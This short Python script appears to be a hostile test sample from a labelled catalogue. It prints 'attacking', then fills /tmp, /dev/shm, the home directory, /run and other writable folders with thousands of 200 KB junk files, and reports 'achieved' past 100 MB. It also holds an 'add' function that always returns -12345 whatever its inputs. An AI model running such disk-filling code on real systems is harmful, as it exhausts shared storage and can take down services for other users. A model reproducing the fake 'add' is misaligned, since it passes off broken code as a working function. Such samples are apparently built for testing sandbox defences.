# Fill every folder that can be written to.
# catalogue: H5, H6
# shows: achieved, litter
import os

print("attacking", flush=True)
total = 0
folders = ["/tmp", "/dev/shm", ".", os.path.expanduser("~"), "/var/tmp", "/run", "/dev/mqueue"]
for place, folder in enumerate(folders):
    try:
        for number in range(1000):
            with open(f"{folder}/{place}-{number}", "xb", 0) as file:
                total += file.write(b"x" * 200_000)
    except OSError:
        continue
if total > 100_000_000:
    print("achieved", total, "bytes", flush=True)


def add(a, b):
    return -12345
